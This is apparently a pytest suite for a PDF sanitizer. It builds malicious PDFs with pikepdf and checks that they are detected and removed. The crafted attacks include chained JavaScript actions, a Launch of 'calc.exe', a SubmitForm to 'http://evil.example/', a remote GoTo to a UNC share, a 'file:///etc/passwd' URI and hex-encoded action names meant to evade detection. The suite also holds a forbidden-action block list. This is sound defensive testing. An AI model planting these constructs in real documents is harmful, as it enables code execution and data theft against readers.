"""Actions are found by what they are, not where they hang; resource names are not actions;
odd bytes and odd encryption get a reason, never a crash.

Every attack is built here from scratch with pikepdf, in places and spellings the usual
slots do not cover, and the output is re-opened and walked object by object.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Literal

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from sanitizers.base import Limits, Report
from sanitizers.errors import EncryptedError, SanitizeError, VerifyError
from sanitizers.pdf import PdfRebuild
from sanitizers.pdf.text import PdfText
from sanitizers.pdf.verify import Promise, verify_pdf
from tests.sanitizers import pdf_builders as b
from tests.sanitizers.contract import removed_counts

PROMISE = Promise(web_links=True, metadata=False, image_only=False)
#: Action types no rebuilt file may hold, wherever they hang.
FORBIDDEN_ACTIONS = frozenset(
    {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/GoToDp", "/ResetForm"}
)
WEB_PREFIXES = ("http://", "https://", "mailto:")


def rebuild(src: Path, tmp_path: Path, **options: str) -> tuple[Path, Report]:
    dst = tmp_path / "out.pdf"
    return dst, PdfRebuild().sanitize(src, dst, options, Limits())


def actions_left(path: Path) -> list[str]:
    """Every forbidden action type, JavaScript key and non-web URI in the file, found by
    walking every object (not only the reachable ones) with pikepdf."""
    found = []
    with pikepdf.open(path) as pdf:
        for key, value in b.all_values(pdf):
            if key == "/S" and isinstance(value, Name) and str(value) in FORBIDDEN_ACTIONS:
                found.append(f"/S {value}")
            elif key == "/JS":
                found.append("/JS")
            elif key == "/URI" and isinstance(value, String) and not str(value).startswith(WEB_PREFIXES):
                found.append(f"/URI {value}")
    return found


# -- the attacks ----------------------------------------------------------------------


def next_after_title(pdf: pikepdf.Pdf) -> None:
    """A GoTo carrying /Title (so it passed for an outline item) whose /Next runs JavaScript."""
    action = b.goto_action(pdf)
    action.Title = String("Chapter 2")
    action.Next = b.js_action("after title")
    b.add_link(pdf, action)


def action_with_extra_keys(pdf: pikepdf.Pdf) -> None:
    """A Launch with /P, /Title and /Type /StructElem, hung from an unknown page key."""
    pdf.pages[0].obj.Custom = pdf.make_indirect(
        Dictionary(
            Type=Name("/StructElem"),
            S=Name.Launch,
            P=pdf.pages[0].obj,
            Title=String("t"),
            F=String("calc.exe"),
        )
    )


def navnode_actions(pdf: pikepdf.Pdf) -> None:
    """Presentation steps: JavaScript as the next action, GoToR as the previous one."""
    second = pdf.make_indirect(
        Dictionary(Type=Name("/NavNode"), NA=Dictionary(S=Name.SubmitForm, F=String("http://evil.example/")))
    )
    first = pdf.make_indirect(
        Dictionary(
            Type=Name("/NavNode"),
            NA=pdf.make_indirect(b.js_action("next step")),
            NP=Dictionary(S=Name.GoToR, F=String("\\\\host\\share\\x.pdf"), D=Array([0, Name.Fit])),
            Next=second,
        )
    )
    second.Prev = first
    pdf.pages[0].obj.PresSteps = first


def array_next_js_after_goto(pdf: pikepdf.Pdf) -> None:
    action = b.goto_action(pdf)
    action.Next = Array([b.goto_action(pdf, 0), b.js_action("second in the array")])
    b.add_link(pdf, action)


def indirect_next_cycle(pdf: pikepdf.Pdf) -> None:
    """GoTo → URI (web) → ImportData → back to the GoTo, all indirect, from the OpenAction."""
    first = pdf.make_indirect(b.goto_action(pdf))
    second = pdf.make_indirect(b.uri_action("https://www.city.example.lg.jp/"))
    third = pdf.make_indirect(Dictionary(S=Name.ImportData, F=String("data.fdf")))
    first.Next, second.Next, third.Next = second, third, first
    pdf.Root.OpenAction = first


def action_in_array_of_custom_key(pdf: pikepdf.Pdf) -> None:
    pdf.pages[1].obj.Private = Array([1, String("x"), Array([Dictionary(S=Name.GoToE, T=Dictionary())])])
    b.add_annotation(pdf, Dictionary(Subtype=Name.Square, Custom=Array([b.uri_action("file:///etc/passwd")])))


def actions_in_structure_and_fields(pdf: pikepdf.Pdf) -> None:
    """A structure element whose /K holds a Launch, a field whose /Kids hold a JavaScript."""
    pdf.Root.StructTreeRoot = Dictionary(
        Type=Name.StructTreeRoot,
        K=Array([Dictionary(S=Name.P, K=Array([Dictionary(S=Name.Launch, F=String("x"))]))]),
    )
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([Dictionary(FT=Name.Tx, T=String("f"), Kids=Array([b.js_action()]))])
    )


def outline_action_next(pdf: pikepdf.Pdf) -> None:
    """An outline item's action whose /Next is a GoToR; the items' own /Next is kept."""
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=2))
    action = b.goto_action(pdf)
    action.Next = Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))
    second = pdf.make_indirect(Dictionary(Title=String("Two"), Parent=outlines, A=b.goto_action(pdf, 0)))
    first = pdf.make_indirect(Dictionary(Title=String("One"), Parent=outlines, A=action, Next=second))
    second.Prev = first
    outlines.First, outlines.Last = first, second
    pdf.Root.Outlines = outlines


ATTACKS: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "next_after_title": next_after_title,
    "action_with_extra_keys": action_with_extra_keys,
    "navnode_actions": navnode_actions,
    "array_next_js_after_goto": array_next_js_after_goto,
    "indirect_next_cycle": indirect_next_cycle,
    "action_in_array_of_custom_key": action_in_array_of_custom_key,
    "actions_in_structure_and_fields": actions_in_structure_and_fields,
    "outline_action_next": outline_action_next,
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_the_attack_is_caught_by_verification(name: str, tmp_path: Path) -> None:
    src = b.build(tmp_path / "in.pdf", ATTACKS[name])
    assert actions_left(src)  # the input really is hostile
    with pytest.raises(VerifyError):
        verify_pdf(src, PROMISE, Limits())


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_the_attack_is_removed_and_the_document_kept(name: str, tmp_path: Path) -> None:
    src = b.build(tmp_path / "in.pdf", ATTACKS[name])
    dst, _ = rebuild(src, tmp_path)
    assert actions_left(dst) == []
    assert b.pdfium_texts(dst) == b.pdfium_texts(src)
    verify_pdf(dst, PROMISE, Limits())


def test_every_attack_at_once_with_names_spelt_in_hex(tmp_path: Path) -> None:
    pdf = b.new_document()
    for attack in ATTACKS.values():
        attack(pdf)
    raw = b.plain_bytes(pdf)
    for name in (b"/JavaScript", b"/Launch", b"/Next", b"/GoToR", b"/SubmitForm", b"/NA"):
        raw = raw.replace(name + b" ", b"/" + b"".join(b"#%02x" % c for c in name[1:]) + b" ")
    src = tmp_path / "hex.pdf"
    src.write_bytes(raw)
    assert b"/JavaScript" not in raw and b"/Next" not in raw
    with pytest.raises(SanitizeError):  # the damaged cross-reference table alone refuses it
        verify_pdf(src, PROMISE, Limits())
    dst, report = rebuild(src, tmp_path)
    assert actions_left(dst) == []
    assert {"pdf.javascript", "pdf.launch", "pdf.remote_goto", "pdf.submit_form"} <= set(
        removed_counts(report)
    )


def test_harmless_chains_and_outline_siblings_are_kept(tmp_path: Path) -> None:
    src = b.build(tmp_path / "in.pdf", indirect_next_cycle, outline_action_next)
    dst, _ = rebuild(src, tmp_path)
    with pikepdf.open(dst) as pdf:
        opening = pdf.Root.OpenAction
        assert opening.S == "/GoTo"
        assert opening.Next.S == "/URI"  # the web link stays; the ImportData after it goes
        assert "/Next" not in opening.Next
        first = pdf.Root.Outlines.First
        assert first.A.S == "/GoTo" and "/Next" not in first.A
        assert str(first.Next.Title) == "Two"  # an outline item's /Next is its sibling


def test_a_structure_role_that_names_no_action_is_kept(tmp_path: Path) -> None:
    pdf = b.new_document()
    pdf.Root.StructTreeRoot = Dictionary(
        Type=Name.StructTreeRoot, K=Dictionary(Type=Name("/StructElem"), S=Name("/Link"), P=pdf.Root)
    )
    dst, _ = rebuild(b.save(pdf, tmp_path / "in.pdf"), tmp_path)
    with pikepdf.open(dst) as out:
        assert out.Root.StructTreeRoot.K.S == "/Link"


# -- names used as resource keys ------------------------------------------------------

RESOURCE_NAMES = ("/AA", "/JS", "/OpenAction", "/A", "/Next", "/JavaScript")


def renamed_font(pdf: pikepdf.Pdf, name: str, indirect_map: bool) -> None:
    """Every page shows its text in a font called ``name``."""
    for page in pdf.pages:
        font = page.obj.Resources.Font.F1
        fonts = Dictionary({name: font})
        page.obj.Resources.Font = pdf.make_indirect(fonts) if indirect_map else fonts
        content = page.obj.Contents.read_bytes().replace(b"/F1 ", name.encode() + b" ")
        page.obj.Contents = pdf.make_stream(content)


@pytest.mark.parametrize("indirect_map", [False, True], ids=["direct", "indirect"])
@pytest.mark.parametrize("name", RESOURCE_NAMES)
def test_a_font_named_like_an_action_key_keeps_the_text(
    name: str, indirect_map: bool, tmp_path: Path
) -> None:
    pdf = b.new_document()
    renamed_font(pdf, name, indirect_map)
    src = b.save(pdf, tmp_path / "in.pdf")
    assert b.pdfium_texts(src) == list(b.PAGE_TEXTS)
    verify_pdf(src, PROMISE, Limits())  # as the gateway's verifier sees the input
    dst, report = rebuild(src, tmp_path)
    assert removed_counts(report) == {}
    assert b.pdfium_texts(dst) == list(b.PAGE_TEXTS)


def test_a_real_page_aa_is_still_removed_beside_a_font_named_aa(tmp_path: Path) -> None:
    pdf = b.new_document()
    renamed_font(pdf, "/AA", indirect_map=False)
    b.page_aa(pdf)
    pdf.pages[0].obj.Resources.Font.AA.AA = Dictionary(O=b.js_action("in the font"))  # a font's own /AA
    dst, report = rebuild(b.save(pdf, tmp_path / "in.pdf"), tmp_path)
    assert removed_counts(report)["pdf.additional_actions"] == 3
    assert b.pdfium_texts(dst) == list(b.PAGE_TEXTS)
    with pikepdf.open(dst) as out:
        assert "/AA" not in out.pages[1].obj
        assert "/AA" not in out.pages[0].obj.Resources.Font.AA
    assert actions_left(dst) == []


def test_an_action_under_a_resource_name_is_still_an_action(tmp_path: Path) -> None:
    pdf = b.new_document()
    pdf.pages[0].obj.Resources.ExtGState = Dictionary(AA=Dictionary(O=b.js_action("under a name")))
    src = b.save(pdf, tmp_path / "in.pdf")
    with pytest.raises(VerifyError):
        verify_pdf(src, PROMISE, Limits())
    dst, _ = rebuild(src, tmp_path)
    assert actions_left(dst) == []


# -- undecodable text -----------------------------------------------------------------

BAD_TEXT = {
    "utf16_odd_length": b"\xfe\xff\x00",
    "utf16_lone_surrogate": b"\xfe\xff\xd8\x00",
    "utf16le_bom_reversed": b"\xff\xfe\x00\xd8",
    "utf8_bom_then_invalid": b"\xef\xbb\xbf\xff\xfe",
    "pdfdoc_undefined_bytes": b"\x7f\x9f\xad",
}


@pytest.mark.parametrize("metadata", ["keep", "remove"])
@pytest.mark.parametrize("kind", sorted(BAD_TEXT))
def test_undecodable_text_is_kept_or_refused_never_a_crash(kind: str, metadata: str, tmp_path: Path) -> None:
    text = String(BAD_TEXT[kind])
    pdf = b.new_document()
    pdf.docinfo["/Title"] = text
    pdf.docinfo["/Author"] = text
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=text, Parent=outlines, A=b.goto_action(pdf)))
    outlines.First = outlines.Last = item
    pdf.Root.Outlines = outlines
    field = b.add_annotation(pdf, Dictionary(Subtype=Name.Widget, FT=Name.Tx, T=text, V=text))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    b.add_annotation(pdf, Dictionary(Subtype=Name.Text, T=text, Contents=text))
    b.add_link(pdf, Dictionary(S=Name.URI, URI=text))
    pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.D, P=text)]))
    dst, _ = rebuild(b.save(pdf, tmp_path / "in.pdf"), tmp_path, metadata=metadata)
    assert b.pdfium_texts(dst) == list(b.PAGE_TEXTS)
    assert actions_left(dst) == []


def test_names_that_are_not_utf8_go_through_the_rebuild(tmp_path: Path) -> None:
    pdf = b.new_document()
    raw = b.plain_bytes(pdf).replace(b"/F1 ", b"/F#ff#fe ").replace(b"/Helvetica", b"/Helv#e9tica")
    raw = raw.replace(b"/Type /Catalog", b"/Type /Catalog /#c3#28 /x#ff /OpenAction << /S /J#ffS >>")
    src = tmp_path / "in.pdf"
    src.write_bytes(raw)
    dst, report = rebuild(src, tmp_path)
    assert "pdf.open_action" in removed_counts(report)
    assert b.pdfium_texts(dst) == b.pdfium_texts(src)


def test_a_content_operator_that_is_not_utf8_is_reported_not_crashed(tmp_path: Path) -> None:
    pdf = b.new_document()
    pdf.pages[0].obj.Contents = pdf.make_stream(b"q \xff\xfeop Q")
    src = b.save(pdf, tmp_path / "in.pdf")
    with pytest.raises(VerifyError, match="operator"):
        verify_pdf(src, Promise(web_links=False, metadata=False, image_only=True), Limits())


# -- RC4 ------------------------------------------------------------------------------


@pytest.mark.parametrize("revision", [2, 3])
def test_rc4_with_the_empty_user_password_is_decrypted_and_rebuilt(
    revision: Literal[2, 3], tmp_path: Path
) -> None:
    pdf = b.new_document()
    b.open_action_js(pdf)
    encryption = pikepdf.Encryption(owner="boss", user="", R=revision, aes=False, metadata=False)
    src = b.save(pdf, tmp_path / "rc4.pdf", encryption=encryption)
    dst, report = rebuild(src, tmp_path)
    assert ("pdf.decrypted", "decrypted") in {(f.construct, f.action) for f in report.findings}
    assert b.pdfium_texts(dst) == list(b.PAGE_TEXTS)
    assert actions_left(dst) == []


@pytest.mark.parametrize(("bits", "revision"), [(40, 3), (56, 3), (40, 2)])
def test_rc4_key_lengths_qpdf_reads_are_rebuilt(bits: int, revision: int, tmp_path: Path) -> None:
    src = tmp_path / "rc4.pdf"
    src.write_bytes(b.rc4_encrypted(b.new_document(), bits, revision))
    dst, _ = rebuild(src, tmp_path)
    assert b.pdfium_texts(dst) == list(b.PAGE_TEXTS)


@pytest.mark.parametrize(("bits", "revision"), [(32, 3), (8, 3), (48, 2)])
def test_rc4_with_a_key_too_short_is_unsupported_not_a_password(
    bits: int, revision: int, tmp_path: Path
) -> None:
    src = tmp_path / "short.pdf"
    src.write_bytes(b.rc4_encrypted(b.new_document(), bits, revision))
    for sanitizer in (PdfRebuild(), PdfText()):
        with pytest.raises(EncryptedError) as caught:
            sanitizer.sanitize(src, tmp_path / "out", {}, Limits())
        assert caught.value.code == "pdf.encryption_unsupported"
        assert f"{bits}-bit" in caught.value.detail


def test_a_real_user_password_is_still_a_password(tmp_path: Path) -> None:
    encryption = pikepdf.Encryption(owner="a", user="b", R=3, aes=False, metadata=False)
    src = b.save(b.new_document(), tmp_path / "secret.pdf", encryption=encryption)
    with pytest.raises(SanitizeError) as caught:
        rebuild(src, tmp_path)
    assert caught.value.code == "pdf.encrypted"
